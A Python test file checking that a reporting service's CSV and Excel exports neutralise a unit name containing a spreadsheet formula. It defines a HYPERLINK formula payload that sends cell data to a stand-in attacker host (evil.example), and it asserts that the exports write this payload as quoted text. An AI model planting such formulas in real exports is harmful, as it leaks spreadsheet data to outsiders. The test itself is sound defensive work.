"""A unit name that is a formula comes out of kpi's CSV and .xlsx exports as inert text (issue 11).

intake now refuses such a name in a new catalogue version; this test publishes a version carrying
one straight onto the CATALOGUE stream (as a version stored before that check would be), so that
kpi, which follows the stream, puts it in its exports.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import asyncpg
import httpx
import openpyxl
import pytest

from bdhvs_shared.catalogue import catalogue_from_texts, read_files, texts_version
from bdhvs_shared.catalogue.loader import default_directory
from bdhvs_shared.events import CataloguePublished, subjects
from bdhvs_shared.nats.streams import ensure_streams
from bdhvs_shared.spreadsheet_safety import starts_a_formula
from support.apps import eventually
from support.bus import jetstream
from support.events import publish, report_accepted
from support.kpi_api import kpi_api

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def catalogue_naming_09313(name: str) -> CataloguePublished:
    files = {n: content.decode("utf-8") for n, content in read_files(default_directory()).items()}
    rows = list(csv.DictReader(io.StringIO(files["units.csv"], newline="")))
    for row in rows:
        if row["code"] == "09313":
            row["name"] = name
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    before, files["units.csv"] = texts_version(files), out.getvalue()
    after = catalogue_from_texts(files)
    assert after.units["09313"].name == name
    return CataloguePublished.new(
        producer="intake",
        correlation_id=None,
        occurred_at=datetime(2026, 3, 1, tzinfo=UTC),
        version=after.version,
        previous_version=before,
        files=files,
        changed_files=["units.csv"],
        changed_by="admin:test",
        summary="a name stored before names were checked",
    )


@pytest.fixture
async def kpi(database_url: str, clean_nats: str, db: asyncpg.Connection) -> AsyncIterator[httpx.AsyncClient]:
    async with jetstream(clean_nats) as js:
        await ensure_streams(js, ["REPORTS", "CATALOGUE"])
        await publish(js, catalogue_naming_09313(EVIL), subjects.CATALOGUE_PUBLISHED)
    async with kpi_api(database_url, clean_nats) as (client, _auth):
        async with jetstream(clean_nats) as js:
            # 47 % then 43 %: a falling figure, so that the pace is a negative number
            for period, numerator in (("2026-02", 4700), ("2026-03", 4300)):
                event = report_accepted("09313", period, {"c": (numerator, 10000)})
                await publish(js, event, "bdhvs.report.accepted.09313")
        await eventually(
            lambda: db.fetchval(
                "SELECT numerator FROM kpi.attainment WHERE unit_code = '09313' AND indicator = 'c'"
            ),
            lambda n: n == 4300,
        )
        yield client


def rows_of(reply: httpx.Response) -> list[dict[str, str]]:
    assert reply.status_code == 200, reply.text
    return list(csv.DictReader(io.StringIO(reply.content.decode("utf-8-sig"))))


async def test_the_csv_exports_write_the_name_as_text_and_numbers_as_numbers(kpi: httpx.AsyncClient) -> None:
    table = rows_of(await kpi.get("/api/v1/table", params={"format": "csv"}))
    ranking = rows_of(await kpi.get("/api/v1/ranking", params={"indicator": "c", "format": "csv"}))
    completeness = rows_of(
        await kpi.get(
            "/api/v1/completeness", params={"form": "monthly", "period": "2026-03", "format": "csv"}
        )
    )
    for rows in (table, ranking, completeness):
        [row] = [r for r in rows if r["unit_code"] == "09313"]
        assert row["unit_name"] == "'" + EVIL
    [row] = [r for r in table if r["unit_code"] == "09313"]
    assert float(row["c_attainment"]) == pytest.approx(0.43)
    assert row["c_pace_pp_per_30d"].startswith("-") and float(row["c_pace_pp_per_30d"]) < 0  # still a number


async def test_the_consolidated_workbook_holds_the_name_as_text_not_a_formula(kpi: httpx.AsyncClient) -> None:
    reply = await kpi.get("/api/v1/consolidated", params={"period": "2026-03"})
    assert reply.status_code == 200, reply.text
    book = openpyxl.load_workbook(io.BytesIO(reply.content))  # not data_only: formulas stay formulas
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    named = [c for c in cells if isinstance(c.value, str) and "evil.example" in c.value]
    # The tables hold the name itself, quoted; the chart sheet's ranking prefixes it ("Xã …"). Neither
    # may start a formula.
    assert named and all(c.data_type == "s" and not starts_a_formula(c.value) for c in named)
    assert any(c.value == "'" + EVIL for c in named)
